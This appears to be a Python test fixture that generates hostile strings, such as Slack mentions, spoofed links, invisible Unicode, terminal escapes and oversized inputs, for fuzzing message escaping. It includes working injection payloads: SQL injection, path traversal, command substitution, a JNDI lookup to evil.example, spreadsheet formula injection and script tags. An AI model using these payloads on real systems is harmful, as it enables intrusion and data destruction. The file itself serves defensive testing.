"""A corpus of hostile strings: what somebody could write into a tag, a host name, a patch title or a command."""

_MENTIONS = (
    "<!channel>", "<!here>", "<!everyone>", "<@U0000001>", "<@U0000001|admin>", "<#C0000001|ops>",
    "<!subteam^S0000001|@sre>", "@channel", "@here", "@everyone", "@admin", "#general", "&lt;!channel&gt;",
    "<!date^0^{ago}|now>",
)  # fmt: skip
_LINKS = (
    "<https://evil.example|Approve>", "<mailto:a@evil.example|mail>", "https://evil.example/x?a=b&c=d",
    "http://evil.example", "a@evil.example", "javascript://x", "slack://open", "HTTPS://EVIL.EXAMPLE",
    "<https://evil.example>", "](https://evil.example)", "ftp://evil.example",
)  # fmt: skip
_FORMATS = (
    "*bold*", "_italic_", "~struck~", "`code`", "```block```", "> quote", ">>> quote", "&gt; quote",
    "* * *", "**", "__dunder__", "a_b_c", "_", "`", "```", "~~~", "*_~`", "*a\n*b", "•\n- list",
)  # fmt: skip
_EMOJI = (
    ":fire:",
    ":white_check_mark:",
    ":fire",
    "fire:",
    ":100:",
    "10:100:2",
    "arn:aws:ssm",
    "::",
    ":+1:",
)
_UNSEEN = (
    "\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "\u200d", "\ufeff", "\u2028line", "\u2029", "\u00ad",
    "\u3164", "\u2800", "\U000e0041", "z" + "\u0301" * 60, "\ud800", "\udfffx", "\uffff", "Ａｐｐｒｏｖｅ",
    "\u180e", "\ufe0f", "e\u0301", "\u00a0", "\ue000",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example")', " =1", '"=1', "';=1", "−1", "\u200b=1", ",=1", '",=1,"', "|x",
)  # fmt: skip
_CONTROLS = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b2J", "\x00", "\x07", "\b\b\b", "a\rb", "\x7f", "\x85",
    "\x1b]8;;http://evil.example\x1b\\x", "\v\f", "[red]rich[/red]", "a\nINFO approved by @cto",
)  # fmt: skip
_CODE = (
    '{"a": 1}', '"}],"x":[{"', "\\", "\\n", "\\u0000", "'; DROP TABLE audit; --", "1 OR 1=1", "../../etc/passwd",
    "C:\\Windows\\win.ini", "$(reboot)", "`reboot`", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n", "{0}",
    "<script>alert(1)</script>", "&amp;", "&", "<", ">", "|", "\u2026",
)  # fmt: skip
_SIZES = (
    "",
    " ",
    "\n" * 5,
    "x" * 10_000,
    "&" * 10_000,
    "<!channel>" * 1_000,
    "😀" * 5_000,
    ":a" * 5_000,
)

_PAYLOADS = _MENTIONS + _LINKS + _FORMATS + _EMOJI + _UNSEEN + _FORMULAS + _CONTROLS + _CODE
_AROUND = ("{}", "i-0abc {}", "{} prod", "x{}y", "Update\n{}\nApproved by @cto", "({})", "{0}{0}")


def _put(payload: str, around: str) -> str:
    return around.replace("{0}", payload).replace("{}", payload)


HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        [_put(payload, around) for payload in _PAYLOADS for around in _AROUND]
        + [first + second for first, second in zip(_PAYLOADS, reversed(_PAYLOADS), strict=True)]
        + list(_SIZES)
    )
)
